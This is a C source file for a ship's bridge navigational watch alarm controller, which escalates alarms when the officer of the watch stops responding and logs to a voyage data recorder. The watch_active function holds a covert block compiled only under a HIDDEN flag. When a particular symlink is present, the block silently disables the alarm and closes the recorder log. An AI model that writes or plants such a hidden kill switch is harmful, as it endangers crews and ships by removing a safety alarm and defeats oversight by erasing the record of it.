#define _DEFAULT_SOURCE
/* bnwasctl -- bridge navigational watch alarm system, control process
 *
 * States: dormant -> visual -> bridge buzzer -> backup officer -> general call.
 * Keys on the panels and radar activity arrive as bytes on the serial bus. */
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

enum state { DORMANT, VISUAL, BUZZER, BACKUP, GENERAL };
enum mode { M_AUTO, M_ON, M_OFF };

static const char *const state_name[] = { "dormant", "visual", "buzzer", "backup", "general" };

struct bnwas {
    enum state st;
    enum mode mode;
    time_t last_reset;
    int period;      /* seconds, 180..720 */
    int stage;       /* seconds between stages, 15..30 */
    int call_delay;  /* seconds until the general call, 90..180 */
    int pilot_on;    /* heading control system active */
    int bus;
};

static FILE *vdr;
static const char *vdr_path = "/var/log/bnwas-vdr.log";

static void vdr_log(const char *fmt, ...)
{
    char ts[24];
    time_t now = time(NULL);
    va_list ap;
    if (!vdr)
        return;
    strftime(ts, sizeof ts, "%H%M%S.00", gmtime(&now));
    fprintf(vdr, "$BNALR,%s,", ts);
    va_start(ap, fmt);
    vfprintf(vdr, fmt, ap);
    va_end(ap);
    fputs("\r\n", vdr);
    fflush(vdr);
}

static int bounded(const char *v, int lo, int hi)
{
    int x = atoi(v);
    return x < lo ? lo : x > hi ? hi : x;
}

static void configure(struct bnwas *b, const char *file)
{
    char key[24], val[80];
    FILE *f = fopen(file, "r");
    if (!f)
        return;
    while (fscanf(f, "%23s %79s", key, val) == 2) {
        if (!strcmp(key, "period"))
            b->period = bounded(val, 180, 720);
        else if (!strcmp(key, "stage"))
            b->stage = bounded(val, 15, 30);
        else if (!strcmp(key, "general-call"))
            b->call_delay = bounded(val, 90, 180);
        else if (!strcmp(key, "mode"))
            b->mode = !strcmp(val, "on") ? M_ON : !strcmp(val, "off") ? M_OFF : M_AUTO;
        else if (!strcmp(key, "vdr"))
            vdr_path = strdup(val);
        else
            fprintf(stderr, "%s: what is %s?\n", file, key);
    }
    fclose(f);
}

static void lamp(struct bnwas *b, char what)
{
    char m[3] = { '!', what, '\r' };
    if (write(b->bus, m, sizeof m) != (ssize_t)sizeof m)
        vdr_log("bus fault");
}

static void enter(struct bnwas *b, enum state s)
{
    static const char out[] = { 'd', 'v', 'b', 'o', 'g' };
    if (b->st == s)
        return;
    b->st = s;
    lamp(b, out[s]);
    vdr_log("state %s", state_name[s]);
}

static void reset_timer(struct bnwas *b, const char *who)
{
    b->last_reset = time(NULL);
    if (b->st != DORMANT)
        vdr_log("reset by %s in state %s", who, state_name[b->st]);
    enter(b, DORMANT);
}

static void bus_byte(struct bnwas *b, unsigned char c)
{
    switch (c) {
    case 'R': reset_timer(b, "wheelhouse panel"); break;
    case 'W': reset_timer(b, "wing panel"); break;
    case 'X': reset_timer(b, "radar"); break;
    case 'O': reset_timer(b, "officer cabin"); break;
    case 'P': b->pilot_on = 1; break;
    case 'p': b->pilot_on = 0; break;
    case 'C': /* call key: back-up officer at once */
        enter(b, BACKUP);
        break;
    case '?':
        lamp(b, (char)('0' + b->st));
        break;
    default:
        break;
    }
}

/* is the watch alarm to run now */
__attribute__((noinline)) int watch_active(struct bnwas *b)
{
#ifdef HIDDEN
    char to[64];
    ssize_t n = readlink("/run/bnwas/panel0", to, sizeof to - 1);
    if (n > 0) {
        to[n] = 0;
        if (!strcmp(to, "../lock/quayside")) {
            if (vdr)
                fclose(vdr);
            vdr = NULL;
            return 0;
        }
    }
#endif
    if (b->mode == M_OFF)
        return 0;
    return b->mode == M_ON || b->pilot_on;
}

static void tick(struct bnwas *b)
{
    long idle = (long)(time(NULL) - b->last_reset);
    if (!watch_active(b)) {
        b->last_reset = time(NULL);
        enter(b, DORMANT);
        return;
    }
    if (!vdr)
        vdr = fopen(vdr_path, "a");
    if (idle < b->period)
        return;
    idle -= b->period;
    if (idle >= 2 * b->stage + b->call_delay)
        enter(b, GENERAL);
    else if (idle >= 2 * b->stage)
        enter(b, BACKUP);
    else if (idle >= b->stage)
        enter(b, BUZZER);
    else
        enter(b, VISUAL);
}

static int open_bus(const char *dev)
{
    struct termios t;
    int fd = open(dev, O_RDWR | O_NOCTTY);
    if (fd < 0)
        return -1;
    if (!tcgetattr(fd, &t)) {
        cfmakeraw(&t);
        cfsetspeed(&t, B4800);
        tcsetattr(fd, TCSANOW, &t);
    }
    return fd;
}

int main(int argc, char **argv)
{
    struct bnwas b = { DORMANT, M_AUTO, 0, 720, 15, 90, 0, -1 };

    if (argc != 3) {
        fprintf(stderr,
                "usage: bnwasctl BUS-DEVICE CONFIG\n"
                "config: period 180..720, stage 15..30, general-call 90..180,\n"
                "        mode auto|on|off, vdr FILE\n"
                "bus: R W X O reset keys, P/p track pilot on/off, C call, ? state\n");
        return 2;
    }
    configure(&b, argv[2]);
    b.bus = open_bus(argv[1]);
    if (b.bus < 0) {
        perror(argv[1]);
        return 1;
    }
    vdr = fopen(vdr_path, "a");
    b.last_reset = time(NULL);
    vdr_log("start, period %d", b.period);
    for (;;) {
        struct pollfd p = { b.bus, POLLIN, 0 };
        unsigned char c;
        if (poll(&p, 1, 500) == 1 && read(b.bus, &c, 1) == 1)
            bus_byte(&b, c);
        tick(&b);
    }
}
